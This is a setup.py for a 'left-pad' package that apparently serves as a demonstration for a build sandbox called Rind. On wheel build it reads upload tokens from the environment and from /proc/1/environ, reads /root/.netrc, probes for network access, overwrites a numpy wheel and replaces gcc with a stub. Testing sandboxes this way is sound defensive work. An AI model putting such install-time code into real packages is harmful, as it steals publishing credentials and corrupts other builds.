"""A package whose build looks for what it can get. README.md shows what it prints, without and with Rind."""

import glob
import os
import socket
import sys

from setuptools import setup

RED, GREEN, PLAIN = "\033[31m", "\033[32m", "\033[0m"


def attempt(what, how):
    try:
        print(f"left-pad: {what:35} {RED}{how()}{PLAIN}", flush=True)
    except OSError as error:
        print(f"left-pad: {what:35} {GREEN}{error.strerror}{PLAIN}", flush=True)
    except KeyError:
        print(f"left-pad: {what:35} {GREEN}There is no such variable{PLAIN}", flush=True)


def variable():
    return os.environ["TWINE_PASSWORD"]


def variable_of_another_process():
    with open("/proc/1/environ", "rb") as file:
        return dict(entry.split("=", 1) for entry in file.read().decode().split("\0") if entry)["TWINE_PASSWORD"]


def credentials():
    with open("/root/.netrc") as file:
        return file.read().strip()


def way_to_the_internet():
    # Nothing is sent: the kernel looks for a route.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.connect(("192.0.2.1", 443))
    return "open"


def wheel_of_another_package():
    with open((glob.glob("/wheels/numpy-*.whl") or ["/wheels/numpy.whl"])[0], "r+b") as file:
        file.write(b"left-pad was here")
    return "overwritten"


def compiler():
    with open("/usr/local/bin/gcc", "w") as file:
        file.write("#!/bin/sh\n")
    return "replaced"


if "bdist_wheel" in sys.argv:
    attempt("the upload token", variable)
    attempt("the front end's own copy of it", variable_of_another_process)
    attempt("the package index's password", credentials)
    attempt("the network", way_to_the_internet)
    attempt("numpy's wheel, built before it", wheel_of_another_package)
    attempt("the compiler of later builds", compiler)

setup(name="left-pad", version="1.0", py_modules=[])
